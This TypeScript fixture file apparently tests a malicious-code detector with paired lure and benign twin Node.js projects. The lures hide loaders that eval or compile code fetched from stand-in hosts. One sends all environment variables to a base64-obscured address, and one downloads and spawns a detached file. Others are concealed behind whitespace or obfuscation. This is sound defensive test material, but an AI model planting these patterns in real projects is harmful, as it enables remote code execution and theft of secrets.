// Inert fixtures: shapes of documented lures, reserved hosts, payloads that do nothing.
import type { TechniqueFixture } from '../fixture.ts';
import { obfuscatedLine, shuffleCipherTail } from '../shapes.ts';

const EXPRESS =
  '{"name":"rental-platform","private":true,"scripts":{"start":"node server/server.js","dev":"concurrently \\"npm run server\\" \\"npm run client\\"","server":"nodemon server/server.js","client":"npm start --prefix client"},"dependencies":{"express":"^4.18.2","axios":"^1.6.0","dotenv":"^16.0.0","mongoose":"^7.0.0"}}';
const SERVER =
  "const express = require('express');\nrequire('dotenv').config();\nconst app = express();\napp.use(express.json());\napp.use('/api/users', require('./routes/userRoute'));\napp.listen(process.env.PORT || 5000, () => console.log('up'));\n";
const ROUTE =
  "const router = require('express').Router();\nconst { registerUser, loginUser } = require('../controllers/userController');\nrouter.route('/register').post(registerUser);\nrouter.route('/login').post(loginUser);\nmodule.exports = router;\n";
const CONTROLLER =
  "const asyncErrorHandler = require('../middlewares/helpers/asyncErrorHandler');\nconst User = require('../models/userModel');\nconst axios = require('axios');\n\nexports.registerUser = asyncErrorHandler(async (req, res, next) => {\n  const user = await User.create(req.body);\n  res.status(201).json({ success: true, user });\n});\n\nexports.loginUser = asyncErrorHandler(async (req, res, next) => {\n  const user = await User.findOne({ email: req.body.email });\n  res.json({ success: Boolean(user) });\n});\n";
const HELPER =
  'module.exports = (fn) => (req, res, next) => {\n  Promise.resolve(fn(req, res, next)).catch(next);\n};\n';
const MODEL =
  "const mongoose = require('mongoose');\nmodule.exports = mongoose.model('User', new mongoose.Schema({ email: String }));\n";
const app = (extra: Record<string, string>): Record<string, string> => ({
  'package.json': EXPRESS,
  'server/server.js': SERVER,
  'server/routes/userRoute.js': ROUTE,
  'server/controllers/userController.js': CONTROLLER,
  'server/middlewares/helpers/asyncErrorHandler.js': HELPER,
  'server/models/userModel.js': MODEL,
  ...extra,
});

const fixtures: readonly TechniqueFixture[] = [
  {
    id: 'C01',
    title: 'cookie field of a JSON store is evaluated at the end of a controller',
    lure: {
      files: app({
        'server/controllers/userController.js': `${CONTROLLER}\nconst getCookie = asyncErrorHandler(async (req, res, next) => {\n  const result = await axios.get('https://api.npoint.io/00000000000000000000');\n  eval(result.data.cookie);\n})();\n`,
      }),
    },
    expect: {
      level: 'malicious',
      file: 'server/controllers/userController.js',
      tradecraft: ['T28', 'T26'],
      via: ['package.json', 'server/server.js', 'server/routes/userRoute.js', 'server/controllers/userController.js'],
      indicators: ['api.npoint.io/00000000000000000000'],
    },
    twin: {
      files: app({
        'server/controllers/userController.js': `${CONTROLLER}\nexports.getCookie = asyncErrorHandler(async (req, res) => {\n  const result = await axios.get('https://api.npoint.io/00000000000000000000');\n  res.json(JSON.parse(JSON.stringify(result.data.cookie)));\n});\n`,
      }),
      why: 'a JSON store used as what it is',
    },
  },
  {
    id: 'C02',
    title: 'one helper of the server is a single obfuscated line',
    lure: {
      files: app({
        'server/middlewares/helpers/error.js': obfuscatedLine(86_000),
        'server/middlewares/helpers/asyncErrorHandler.js': `require('./error');\n${HELPER}`,
      }),
    },
    expect: {
      level: 'malicious',
      file: 'server/middlewares/helpers/error.js',
      tradecraft: ['T17', 'T53'],
      via: ['package.json', 'server/server.js', 'server/middlewares/helpers/error.js'],
    },
    twin: {
      files: app({
        'public/js/vendor.min.js': `/*! charts 1.0 */!function(t,e){"object"==typeof exports?module.exports=e():t.Charts=e()}(this,(function(){${'var n=function(t,e){return t.map((function(t){return t*e}))};'.repeat(900)}return n}));`,
      }),
      why: 'a minified library in public',
    },
  },
  {
    id: 'C04',
    title: 'shuffle cipher behind 908 blanks on the last line of a route',
    lure: {
      files: app({ 'server/routes/userRoute.js': `${ROUTE.trimEnd()}${' '.repeat(908)}${shuffleCipherTail()}\n` }),
    },
    expect: {
      level: 'malicious',
      file: 'server/routes/userRoute.js',
      tradecraft: ['T51', 'T52'],
      via: ['package.json', 'server/server.js', 'server/routes/userRoute.js'],
    },
    twin: {
      files: app({ 'server/routes/userRoute.js': `${ROUTE.trimEnd()}${' '.repeat(130)}// end of routes\n` }),
      why: 'a comment far to the right',
    },
  },
  {
    id: 'C05',
    title: 'the error body of a request that must fail is evaluated, in TypeScript classes',
    lure: {
      files: {
        'package.json':
          '{"name":"contracts-api","scripts":{"start":"ts-node src/index.ts","build":"tsc"},"dependencies":{"axios":"1.6.0","express":"4"}}',
        'src/index.ts':
          "import express from 'express';\nimport { ContractService } from './services/contract.service';\nconst app = express();\nconst service = new ContractService();\nservice.init();\napp.listen(3000);\n",
        'src/services/contract.service.ts':
          "import axios, { AxiosError } from 'axios';\nimport { RPC } from '../config/rpc';\nexport class ContractService {\n  private ready = false;\n  async init(): Promise<void> {\n    await this.callMainnet();\n    await this.callHashedContract();\n    this.ready = true;\n  }\n  private async callMainnet() {\n    try { await axios.get(RPC.main); } catch (err) { console.log((err as AxiosError).response?.data); }\n  }\n  private async callHashedContract() {\n    await axios.post(RPC.hashed, { id: 1 }).then((res) => res.data).catch((err) => { eval(err.response.data); });\n  }\n}\n",
        'src/config/rpc.ts':
          "export const RPC = {\n  main: 'https://rpc.example/eth',\n  hashed: 'https://contract-check.invalid/api/x',\n} as const;\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'src/services/contract.service.ts',
      tradecraft: ['T29'],
      via: ['package.json', 'src/index.ts', 'src/services/contract.service.ts'],
      indicators: ['contract-check.invalid'],
    },
    twin: {
      files: {
        'package.json':
          '{"name":"contracts-api","scripts":{"start":"ts-node src/index.ts"},"dependencies":{"axios":"1.6.0"}}',
        'src/index.ts':
          "import axios from 'axios';\nexport async function call() {\n  try {\n    return (await axios.get('https://rpc.example/eth')).data;\n  } catch (err: any) {\n    const detail = JSON.parse(err.response.data);\n    throw new Error(detail.message);\n  }\n}\ncall();\n",
      },
      why: 'an error body that is parsed and shown',
    },
  },
  {
    id: 'C06',
    title: 'base64 address in .env, Function.constructor, header names from .env',
    lure: {
      files: {
        'package.json':
          '{"name":"staking","scripts":{"start":"node app.js","prepare":"start /b node app.js || nohup node app.js &"},"dependencies":{"axios":"1.6.0","dotenv":"16"}}',
        '.env': `PORT=4000\nDEV_API_KEY="${Buffer.from('https://staking-auth-check.invalid/api/ipcheck/705').toString('base64')}"\nDEV_SECRET_KEY="${Buffer.from('x-secret-header').toString('base64')}"\nDEV_SECRET_VALUE="${Buffer.from('secret').toString('base64')}"\n`,
        'app.js':
          "require('dotenv').config();\nconst { connect } = require('./src/db');\nconst routes = require('./src/routes');\nconnect();\nroutes();\n",
        'src/db.js': 'exports.connect = async () => ({ ok: true });\n',
        'src/routes.js':
          "const { verify } = require('./auth');\nmodule.exports = () => { verify(setApiKey(process.env.DEV_API_KEY)).then((response) => {\n  const executor = new (Function.constructor)('require', response.data);\n  executor(require);\n  console.log('API Key verified successfully.');\n}).catch((e) => console.log('failed')); };\nconst setApiKey = (s) => atob(s);\n",
        'src/auth.js':
          "const axios = require('axios');\nconst decode = (s) => Buffer.from(s, 'base64').toString('utf8');\nexports.verify = async (url) => axios.post(url, { ...process.env }, { headers: { [decode(process.env.DEV_SECRET_KEY)]: decode(process.env.DEV_SECRET_VALUE) } });\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'src/routes.js',
      tradecraft: ['T26', 'T27', 'T41'],
      via: ['package.json', 'app.js', 'src/routes.js'],
      indicators: ['staking-auth-check.invalid'],
    },
    twin: {
      files: {
        'package.json':
          '{"name":"staking","scripts":{"start":"node app.js","prepare":"husky install"},"dependencies":{"axios":"1.6.0","dotenv":"16"}}',
        '.env': 'PORT=4000\nAPI_URL=https://api.example/v1\nJWT_SECRET=c2VjcmV0LWZvci10ZXN0cw==\n',
        'app.js':
          "require('dotenv').config();\nconst axios = require('axios');\naxios.post(process.env.API_URL, { port: process.env.PORT }, { headers: { Authorization: `Bearer ${process.env.JWT_SECRET}` } }).then((response) => console.log(response.data.user));\n",
      },
      why: 'an honest environment file and an authorised request',
    },
  },
  {
    id: 'C12',
    title: 'NestJS provider that fetches and compiles on module init',
    lure: {
      files: {
        'package.json':
          '{"name":"api","scripts":{"start":"nest start","start:dev":"nest start --watch"},"dependencies":{"@nestjs/core":"10","@nestjs/common":"10"}}',
        'src/main.ts':
          "import { NestFactory } from '@nestjs/core';\nimport { AppModule } from './app.module';\nasync function bootstrap() {\n  const app = await NestFactory.create(AppModule);\n  await app.listen(3000);\n}\nbootstrap();\n",
        'src/app.module.ts':
          "import { Module } from '@nestjs/common';\nimport { LicenseService } from './license/license.service';\n@Module({ providers: [LicenseService] })\nexport class AppModule {}\n",
        'src/license/license.service.ts':
          "import { Injectable, OnModuleInit } from '@nestjs/common';\nconst HOST = ['https:', '', 'license-sync.invalid', 'api', 'v2'].join('/');\n@Injectable()\nexport class LicenseService implements OnModuleInit {\n  async onModuleInit() {\n    const reply = await fetch(HOST, { method: 'POST', body: JSON.stringify({ k: process.env.USERNAME }) });\n    const { token } = await reply.json();\n    const run = new Function('require', 'process', Buffer.from(token, 'base64').toString());\n    run(require, process);\n  }\n}\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'src/license/license.service.ts',
      tradecraft: ['T26'],
      indicators: ['license-sync.invalid'],
    },
    twin: {
      files: {
        'package.json':
          '{"name":"api","scripts":{"start":"nest start"},"dependencies":{"@nestjs/core":"10","@nestjs/common":"10"}}',
        'src/main.ts':
          "import { NestFactory } from '@nestjs/core';\nimport { AppModule } from './app.module';\nNestFactory.create(AppModule).then((app) => app.listen(3000));\n",
        'src/app.module.ts':
          "import { Module } from '@nestjs/common';\nimport { LicenseService } from './license.service';\n@Module({ providers: [LicenseService] })\nexport class AppModule {}\n",
        'src/license.service.ts':
          "import { Injectable, OnModuleInit } from '@nestjs/common';\n@Injectable()\nexport class LicenseService implements OnModuleInit {\n  private token = '';\n  async onModuleInit() {\n    const reply = await fetch('https://license.example/api', { method: 'POST' });\n    this.token = Buffer.from((await reply.json()).token, 'base64').toString();\n  }\n}\n",
      },
      why: 'a token that is decoded and kept',
    },
  },
  {
    id: 'C16',
    title: 'core https with accumulated chunks, run by vm from a socket module',
    lure: {
      files: {
        'package.json':
          '{"name":"chat","main":"index.js","scripts":{"start":"node ."},"dependencies":{"socket.io":"4"}}',
        'index.js':
          "const http = require('http');\nconst server = http.createServer();\nrequire('./socket')(server);\nserver.listen(8080);\n",
        'socket/index.js':
          "const https = require('https');\nconst vm = require('vm');\nmodule.exports = (server) => {\n  server.on('connection', () => {});\n  sync();\n};\nfunction sync() {\n  https.get({ hostname: 'cdn-geo.invalid', path: '/locale/en', headers: { 'x-app-request': 'ip-check' } }, (res) => {\n    let body = '';\n    res.on('data', (part) => (body += part));\n    res.on('end', () => {\n      const script = new vm.Script(JSON.parse(body).model);\n      script.runInThisContext();\n    });\n  }).on('error', () => {});\n}\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'socket/index.js',
      tradecraft: ['T26', 'T47', 'T14'],
      via: ['package.json', 'index.js', 'socket/index.js'],
      indicators: ['cdn-geo.invalid'],
    },
    twin: {
      files: {
        'package.json': '{"name":"chat","main":"index.js","scripts":{"start":"node ."}}',
        'index.js':
          "const vm = require('vm');\nconst fs = require('fs');\nconst https = require('https');\nhttps.get('https://status.example/', (res) => { let body = ''; res.on('data', (part) => (body += part)); res.on('end', () => console.log(JSON.parse(body).ok)); });\nvm.runInThisContext(fs.readFileSync('./scripts/init.js', 'utf8'));\n",
        'scripts/init.js': 'globalThis.started = true;\n',
      },
      why: 'vm runs a file of the project, the reply is only read',
    },
  },
  {
    id: 'C18',
    title: 'download, write, spawn in a utility that a start script imports',
    lure: {
      files: {
        'package.json':
          '{"name":"bot","type":"module","scripts":{"start":"node src/main.mjs"},"dependencies":{"got":"12"}}',
        'src/main.mjs': "import { warmup } from './lib/cache.mjs';\nawait warmup();\nconsole.log('trading');\n",
        'src/lib/cache.mjs':
          "import got from 'got';\nimport { writeFile } from 'node:fs/promises';\nimport { spawn } from 'node:child_process';\nimport os from 'node:os';\nimport path from 'node:path';\nconst target = path.join(os.tmpdir(), 'cache-index.js');\nexport async function warmup() {\n  const body = await got(`http://203.0.113.7:1244/client/${5}/${144}`).text();\n  await writeFile(target, body);\n  spawn(process.execPath, [target], { detached: true, stdio: 'ignore', windowsHide: true }).unref();\n}\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'src/lib/cache.mjs',
      tradecraft: ['T26', 'T14', 'T35', 'T66', 'T12'],
      via: ['package.json', 'src/main.mjs', 'src/lib/cache.mjs'],
      indicators: ['203.0.113.7'],
    },
    twin: {
      files: {
        'package.json':
          '{"name":"bot","type":"module","scripts":{"start":"node src/main.mjs"},"dependencies":{"got":"12"}}',
        'src/main.mjs':
          "import got from 'got';\nimport { writeFile } from 'node:fs/promises';\nimport { spawn } from 'node:child_process';\nconst rates = await got('https://rates.example/latest.json').json();\nawait writeFile('rates.json', JSON.stringify(rates));\nspawn(process.execPath, ['src/worker.mjs'], { stdio: 'inherit' });\n",
        'src/worker.mjs': "console.log('working');\n",
      },
      why: 'data is cached, and a worker of the project is started',
    },
  },
];
export default fixtures;
